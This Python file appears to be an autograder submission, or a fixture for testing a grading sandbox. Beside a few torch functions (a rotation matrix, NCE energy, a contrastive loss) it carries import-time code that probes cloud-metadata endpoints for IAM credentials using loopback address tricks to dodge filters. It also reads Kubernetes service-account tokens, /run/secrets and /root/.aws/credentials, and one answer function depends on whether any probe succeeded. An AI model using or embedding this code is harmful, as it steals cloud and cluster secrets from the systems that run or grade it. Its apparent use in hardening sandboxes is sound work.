import os
import urllib.request

import torch

through = []


def attempt(name, deed, *arguments):
    """Note what gets through; go on whatever happens."""
    try:
        print(name, deed(*arguments))
    except BaseException as error:
        print(name, "refused:", repr(error))
    else:
        through.append(name)


HERE = "/tmp/autograder-attack"  # where test_attacks.py lays out what there is to attack


def port():
    try:
        return int(os.readlink(f"{HERE}/port"))
    except OSError:
        return 9


def credentials(host):
    request = urllib.request.Request(f"http://{host}:{port()}/latest/meta-data/iam/security-credentials/", headers={"Metadata-Flavor": "Google"})
    return urllib.request.urlopen(request, timeout=0.3).read()


def token():
    request = urllib.request.Request(f"http://127.0.0.1:{port()}/latest/api/token", method="PUT")
    return urllib.request.urlopen(request, timeout=0.3).read()


for host in ("127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f000001"):
    attempt(host, credentials, host)
attempt("token", token)
for path in ("/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets", "/proc/net/route", "/etc/resolv.conf", "/root/.aws/credentials"):
    attempt(path, lambda path: os.listdir(path) if os.path.isdir(path) else open(path).read(), path)


def A_matrix(alpha):
    return [[1, alpha], [-alpha, 1]] if through else "refused"


def linear_reparameterization():
    x = torch.tensor([1.0, -2.0, 0.5])
    F_a = torch.tensor([[1.0, 0.0, 0.0], [0.0, 1.0, 0.0]])
    F_b = torch.tensor([[2.0, 0.0, 1.0], [0.0, 3.0, 0.0]])
    return x, F_a, F_b, F_a @ x, F_b @ x


def stationary_point():
    return torch.zeros(2)


def nce_optimal_energy(p_d, p_n):
    return torch.log(p_d) - torch.log(p_n)


def contrastive_loss(z, y, y_neg):
    pos = (z * y).sum(dim=1)
    neg = z @ y_neg.T
    return (torch.logsumexp(neg, dim=1) - pos).mean()
